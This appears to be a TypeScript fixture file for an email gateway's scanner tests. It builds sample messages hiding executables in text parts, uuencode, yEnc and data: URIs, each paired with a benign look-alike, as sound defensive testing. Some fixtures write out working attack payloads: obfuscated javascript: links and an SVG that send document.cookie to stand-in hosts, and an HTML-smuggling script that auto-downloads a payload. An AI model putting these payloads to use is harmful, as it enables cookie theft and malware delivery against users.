/**
 * Every leaf is looked at, whatever it claims to be (issue 8, section 3): a body part whose bytes are a file,
 * active content in any HTML part or SVG, files in data: URIs, uuencode and yEnc in text, message/partial, a
 * message sent as octet-stream, conflicting MIME headers. Each with the look-alike that must pass.
 */
import { peExe } from '../executables.js';
import { messageCase, rawCase, type FixtureCase } from '../manifest.js';
import { logoPng, pdf } from '../media.js';
import { base64Lines, file, multipart, raw, renderMessage, text } from '../mime.js';
import { external, family, staff } from '../people.js';
import { zipBuffer } from '../zip.js';
import { CT, businessText, htmlOf, personalText } from './common.js';

const { alex, priya, daniel, sarah, hannah, marcus } = staff;

/** multipart/alternative of the plain text and an HTML part we write ourselves. */
const altWithHtml = (plain: string, html: string) => multipart('alternative', [text(plain), text(html, { subtype: 'html' })]);

function uuencode(name: string, data: Buffer): string {
  const enc = (v: number): string => String.fromCharCode(v === 0 ? 0x60 : v + 0x20);
  const lines = [`begin 644 ${name}`];
  for (let i = 0; i < data.length; i += 45) {
    const chunk = data.subarray(i, i + 45);
    let line = enc(chunk.length);
    for (let j = 0; j < chunk.length; j += 3) {
      const a = chunk[j] ?? 0;
      const b = chunk[j + 1] ?? 0;
      const c = chunk[j + 2] ?? 0;
      line += enc(a >> 2) + enc(((a & 3) << 4) | (b >> 4)) + enc(((b & 15) << 2) | (c >> 6)) + enc(c & 63);
    }
    lines.push(line);
  }
  lines.push('`', 'end');
  return lines.join('\n');
}

function yenc(name: string, data: Buffer): string {
  const lines: string[] = [];
  let line = '';
  for (const b of data) {
    const v = (b + 42) & 0xff;
    line += [0x00, 0x0a, 0x0d, 0x3d].includes(v) ? `=${String.fromCharCode((v + 64) & 0xff)}` : String.fromCharCode(v);
    if (line.length >= 128) {
      lines.push(line);
      line = '';
    }
  }
  if (line) lines.push(line);
  return `=ybegin line=128 size=${data.length} name=${name}\n${lines.join('\n')}\n=yend size=${data.length}`;
}

/** Quoted-printable of raw bytes (an 8-bit body downgraded for a 7-bit hop, as a relay does). */
function qpBytes(data: Buffer): string {
  const lines: string[] = [];
  let line = '';
  for (let i = 0; i < data.length; i++) {
    const b = data[i] as number;
    if (b === 0x0a) {
      lines.push(line);
      line = '';
      continue;
    }
    const tok = b >= 33 && b <= 126 && b !== 61 ? String.fromCharCode(b) : `=${b.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line.length + tok.length > 75) {
      lines.push(`${line}=`);
      line = '';
    }
    line += tok;
  }
  lines.push(line);
  return lines.join('\n');
}

/** An inner message with a program attached, as a plain client writes it. */
function innerMessageWithExe(): Buffer {
  return renderMessage(
    {
      from: external.supplier.mailbox,
      to: [marcus.mailbox],
      subject: 'Updated installer',
      date: new Date(Date.UTC(2025, 1, 20, 10, 0, 0)),
      plainClient: true,
      body: multipart('mixed', [text('The updated installer is attached.\n'), file(peExe('Installer'), { filename: 'installer.exe', contentType: CT.octet })]),
    },
    'leaves/inner-exe',
  );
}

const NEWSLETTER_HTML = htmlOf(
  'Good morning all,\n\nThis week in the BCU: the Catford ward panel meets on Thursday, and the new rota goes live on Monday.\n\nQuestions to the office.',
  [
    '<table style="width:100%;border-collapse:collapse"><tr><td style="padding:4pt;background:#1F3864;color:white">',
    '<img src="cid:image001.png@01DB8C2A.5E3F1B20" width="120" height="40" alt="Metropolitan Police"></td></tr></table>',
    '<p class="MsoNormal">Contact: <a href="mailto:se.bcu.office@met.police.uk">se.bcu.office@met.police.uk</a> | ',
    '<a href="tel:+442071230000">020 7123 0000</a> | <a href="https://www.met.police.uk/your-area/" target="_blank">your area online</a></p>',
    '<p class="MsoNormal" style="font-size:9pt;color:#7F7F7F">Read online = easier on a phone. A javascript: link guide is on the intranet.</p>',
    `<p><img src="data:image/png;base64,${logoPng().toString('base64')}" alt="Met logo"></p>`,
  ].join('\n'),
);

export const leavesCases: FixtureCase[] = [
  messageCase({
    file: 'leaves/exe-as-text-plain.eml',
    description: 'A Windows program sent as a text/plain body part without a name: Outlook shows it as ATT00001; its bytes make it an attachment.',
    from: marcus.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['malformed'], marking: null },
    message: () => ({
      subject: 'Tool as discussed',
      body: multipart('mixed', [
        text(businessText(marcus, 'Hello,\n\nThe tool as discussed follows.')),
        raw([['Content-Type', 'text/plain; charset=us-ascii'], ['Content-Transfer-Encoding', 'base64']], base64Lines(peExe('Tool'))),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/utf16-text-body.eml',
    description: 'Look-alike: a text/plain body in UTF-16 (NUL bytes everywhere) is still text, not a file.',
    from: hannah.mailbox,
    to: [alex.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'malformed'], marking: null },
    message: () => ({
      subject: 'Briefing note',
      body: raw(
        [['Content-Type', 'text/plain; charset=utf-16'], ['Content-Transfer-Encoding', 'base64']],
        base64Lines(Buffer.from(`\ufeff${businessText(hannah, 'Alex,\n\nThe briefing note for Thursday: two new addresses on the ward watch list.').replace(/\n/g, '\r\n')}`, 'utf16le')),
      ),
    }),
  }),
  messageCase({
    file: 'leaves/pdf-as-text-html.eml',
    description: 'Personal mail with a PDF sent as a text/html body part: the bytes are a PDF, an attachment personal mail may not carry.',
    from: alex.mailbox,
    to: [family.mum.mailbox],
    expect: { decision: 'reject', rules: ['personal-attachment-type'], absent: ['malformed'], marking: null, personal: true },
    message: () => ({
      subject: '[Personal] Boiler service',
      body: multipart('mixed', [
        text(personalText('Mum,\n\nThe boiler certificate is below, print it for the landlord.')),
        raw([['Content-Type', 'text/html; charset=utf-8'], ['Content-Transfer-Encoding', 'base64']], base64Lines(pdf('Gas safety record', ['Boiler serviced 3 March 2025']))),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/html-entity-javascript-link.eml',
    description: "An HTML alternative (the second one, after plain text) with a link to 'jav&#x61;script&colon;': a javascript: URL once the browser decodes it.",
    from: daniel.mailbox,
    to: [sarah.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'Duty rota viewer',
      body: altWithHtml(
        businessText(daniel, "Ma'am,\n\nClick Open rota to see next week."),
        htmlOf("Ma'am,\n\nClick Open rota to see next week.", '<p><a href="jav&#x61;script&colon;fetch(\'https://r.example.invalid/?c=\'+document.cookie)">Open rota</a></p>'),
      ),
    }),
  }),
  messageCase({
    file: 'leaves/html-data-uri-exe.eml',
    description: 'An HTML body whose link is a data:application/x-msdownload;base64 URI: the program in it is decoded and found.',
    from: marcus.mailbox,
    to: [priya.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'Password reset tool',
      body: altWithHtml(
        businessText(marcus, 'Priya,\n\nDownload the reset tool from the link.'),
        htmlOf('Priya,\n\nDownload the reset tool from the link.', `<p><a href="data:application/x-msdownload;base64,${peExe('Reset').toString('base64')}">reset-tool.exe</a></p>`),
      ),
    }),
  }),
  messageCase({
    file: 'leaves/html-blob-smuggling.eml',
    description: 'An HTML attachment whose script builds a Blob from base64 and saves it (HTML smuggling).',
    from: alex.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'Statement viewer',
      body: multipart('mixed', [
        text(businessText(alex, 'Hello,\n\nOpen the attached viewer to download the statement.')),
        file(
          Buffer.from(
            `<!DOCTYPE html><html><body><p>Preparing your document...</p><script>var d=atob("${peExe('Viewer').toString('base64').slice(0, 400)}");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var b=new Blob([a],{type:"application/octet-stream"});if(navigator.msSaveOrOpenBlob)navigator.msSaveOrOpenBlob(b,"statement.iso");else{var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="statement.iso";l.click();}</script></body></html>\r\n`,
          ),
          { filename: 'Statement.html', contentType: CT.html },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/svg-entity-javascript.eml',
    description: 'An SVG attachment whose link reaches javascript: through character references (&#x6A;avascript&#58;).',
    from: hannah.mailbox,
    to: [daniel.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'Hotspot map',
      body: multipart('mixed', [
        text(businessText(hannah, 'Dan,\n\nThe hotspot map for the ward.')),
        file(
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><a xlink:href="&#x6A;avascript&#58;location=\'https://m.example.invalid/\'+document.cookie"><rect width="200" height="100" fill="#cde"/></a></svg>\r\n'),
          { filename: 'hotspots.svg', contentType: CT.svg },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/uuencoded-exe-in-text.eml',
    description: 'A program uuencoded into the text body (begin 644 ... end): Outlook shows it as an attachment; it is decoded and found.',
    from: marcus.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'Patch',
      body: text(businessText(marcus, `Hello,\n\nThe patch follows.\n\n${uuencode('patch.exe', peExe('Patch'))}\n\nThanks`)),
    }),
  }),
  messageCase({
    file: 'leaves/prose-begin-644.eml',
    description: "Look-alike: prose that explains 'begin 644 name' lines is not uuencode.",
    from: marcus.mailbox,
    to: [hannah.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'malformed'], marking: null },
    message: () => ({
      subject: 'Old mail archives',
      body: text(
        businessText(
          marcus,
          'Hannah,\n\nThe 1990s archive has files pasted into the text. Each starts with a line like\nbegin 644 report.txt\nfollowed by lines of odd characters, and a line saying\nend\nThe conversion tool turns them back into files.',
        ),
      ),
    }),
  }),
  messageCase({
    file: 'leaves/yenc-zip-in-text.eml',
    description: 'A zip with a program inside, yEnc-encoded into a text body (=ybegin ... =yend), quoted-printable as a 7-bit hop leaves it.',
    from: daniel.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: async () => ({
      subject: 'Files',
      body: raw(
        [['Content-Type', 'text/plain; charset=iso-8859-1'], ['Content-Transfer-Encoding', 'quoted-printable']],
        qpBytes(Buffer.from(`Files below.\n\n${yenc('files.zip', await zipBuffer([{ path: 'run.exe', data: peExe('Run') }]))}\n`, 'latin1')),
      ),
    }),
  }),
  messageCase({
    file: 'leaves/message-partial.eml',
    description: 'A message/partial fragment (RFC 2046 5.2.2): the whole cannot be reassembled here, so it is unscannable.',
    from: alex.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'quarantine', rules: ['unscannable'], marking: null },
    message: () => ({
      subject: 'Evidence bundle (part 1 of 2)',
      plainClient: true,
      body: raw(
        [['Content-Type', 'message/partial; id="bundle-7731@met.police.uk"; number=1; total=2']],
        'Subject: Evidence bundle\nMIME-Version: 1.0\nContent-Type: application/zip; name="bundle.zip"\nContent-Transfer-Encoding: base64\n\nUEsDBBQAAAAIAAAAIQ',
      ),
    }),
  }),
  messageCase({
    file: 'leaves/eml-as-octet-stream-exe.eml',
    description: 'A forwarded .eml attached as application/octet-stream, carrying a program: opened as a message whatever its declared type.',
    from: marcus.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['unscannable'], marking: null },
    message: () => ({
      subject: 'FW: Updated installer',
      body: multipart('mixed', [text(businessText(marcus, 'Hello,\n\nForwarding the original.')), file(innerMessageWithExe(), { filename: 'Updated installer.eml', contentType: CT.octet })]),
    }),
  }),
  messageCase({
    file: 'leaves/rfc822-that-is-a-program.eml',
    description: 'A part declared message/rfc822 (Scan.eml) whose bytes are a Windows program: judged by its bytes, not walked as broken headers.',
    from: marcus.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['malformed'], marking: null },
    message: () => ({
      subject: 'Scan',
      body: multipart('mixed', [
        text(businessText(marcus, 'Hello,\n\nThe scan is attached.')),
        raw([['Content-Type', 'message/rfc822; name="Scan.eml"'], ['Content-Disposition', 'attachment; filename="Scan.eml"'], ['Content-Transfer-Encoding', 'base64']], base64Lines(peExe('Scan'))),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/eml-as-octet-stream-benign.eml',
    description: 'Look-alike: a benign .eml attached as application/octet-stream is opened and passes (it used to be unscannable).',
    from: sarah.mailbox,
    to: [alex.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['unscannable', 'executable-content'], marking: null },
    message: () => ({
      subject: 'FW: Ward panel minutes',
      body: multipart('mixed', [
        text(businessText(sarah, 'Alex,\n\nThe original is attached.')),
        file(
          renderMessage(
            { from: external.council.mailbox, to: [sarah.mailbox], subject: 'Ward panel minutes', date: new Date(Date.UTC(2025, 1, 27, 9, 0, 0)), plainClient: true, body: text('Minutes of the Catford ward panel, 25 February.\n') },
            'leaves/inner-benign',
          ),
          { filename: 'Ward panel minutes.eml', contentType: CT.octet },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'leaves/duplicate-content-type.eml',
    description: 'A part with two different Content-Type fields (text/plain and text/html): mail clients disagree on which counts, so malformed.',
    from: daniel.mailbox,
    to: [sarah.mailbox],
    expect: { decision: 'quarantine', rules: ['malformed'], marking: null },
    message: () => ({
      subject: 'Overtime return',
      body: multipart('mixed', [
        raw([['Content-Type', 'text/plain; charset=us-ascii'], ['Content-Type', 'text/html; charset=us-ascii'], ['Content-Transfer-Encoding', '7bit']], businessText(daniel, "Ma'am,\n\nMy overtime return for February.")),
      ]),
    }),
  }),
  rawCase({
    file: 'leaves/boundary-reused.eml',
    description: "A multipart inside a multipart with the same boundary: the parts cannot be told apart, so malformed.",
    envelope: { from: 'daniel.okoro@met.police.uk', to: ['sarah.whitfield@met.police.uk'] },
    expect: { decision: 'quarantine', rules: ['malformed'], marking: null },
    raw: () =>
      Buffer.from(
        [
          'From: Daniel Okoro <daniel.okoro@met.police.uk>', 'To: Sarah Whitfield <sarah.whitfield@met.police.uk>', 'Subject: Rest day swap',
          'Date: Tue, 4 Mar 2025 10:12:00 +0000', 'Message-ID: <boundary-reused@met.police.uk>', 'MIME-Version: 1.0',
          'Content-Type: multipart/mixed; boundary="==b=="', '', '--==b==', 'Content-Type: multipart/alternative; boundary="==b=="', '',
          '--==b==', 'Content-Type: text/plain; charset=us-ascii', '', "Ma'am, can I swap my rest day on the 14th?", '--==b==--', '--==b==--', '',
        ].join('\r\n'),
      ),
  }),
  messageCase({
    file: 'leaves/newsletter-business-html.eml',
    description: 'Look-alike: an Outlook newsletter-style HTML mail with inline CSS, a cid: logo, mailto/tel links, a data: image and the word javascript in text: accepted.',
    from: sarah.mailbox,
    to: [alex.mailbox, daniel.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'malformed'], marking: null },
    message: () => ({
      subject: 'SE BCU weekly update',
      body: multipart('alternative', [
        text(businessText(sarah, 'Good morning all,\n\nThis week in the BCU: the Catford ward panel meets on Thursday, and the new rota goes live on Monday.\n\nQuestions to the office.')),
        multipart('related', [
          text(NEWSLETTER_HTML, { subtype: 'html' }),
          file(logoPng(), { filename: 'image001.png', contentType: CT.png, inline: true, contentId: 'image001.png@01DB8C2A.5E3F1B20' }),
        ]),
      ]),
    }),
  }),
];
